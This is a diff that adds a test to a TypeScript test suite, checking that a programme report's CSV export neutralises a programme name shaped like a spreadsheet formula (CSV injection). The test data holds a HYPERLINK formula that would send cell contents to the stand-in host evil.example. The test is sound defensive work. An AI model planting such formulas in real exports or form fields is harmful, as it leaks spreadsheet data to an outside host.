@@ -359,5 +359,15 @@ describe('trajectories and reports', () => {
         { programme: 'Babbelbox', month: '2026-10', sessions_held: '1', seats_offered: '3', confirmed: '1', attended: '0', no_shows: '1', waitlisted: '0' },
       ]);
     });
+
+    it('programmeReportCsv writes a programme name that looks like a formula as text (CSV injection)', async () => {
+      const name = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
+      const id = dataOf(await api.gql(`mutation($i: CreateProgrammeInput!) { createProgramme(input: $i) { id } }`, { i: { name, kind: 'TABLE', defaultCapacity: 2 } }, world.tokens.admin)).createProgramme.id;
+      dataOf(await coordinator(CREATE_SESSION, { i: sessionInput(world, { programmeId: id, venueId: world.schoolVenueId, title: 'Formule', startsAt: '2026-11-05T09:00:00+01:00', endsAt: '2026-11-05T10:00:00+01:00', capacity: 2 }) }));
+      const csv = dataOf(await coordinator(PROGRAMME_REPORT_CSV, { f: '2026-11-01', t: '2026-11-30', p: id })).programmeReportCsv as string;
+      expect((parse(csv, { columns: true }) as { programme: string }[]).map((row) => row.programme)).toEqual([`'${name}`]);
+      // The JSON report keeps the name as it was typed: only the CSV cell is neutralised.
+      expect(dataOf(await coordinator(PROGRAMME_REPORT, { f: '2026-11-01', t: '2026-11-30', p: id })).programmeReport[0].programmeName).toBe(name);
+    });
   });
 });
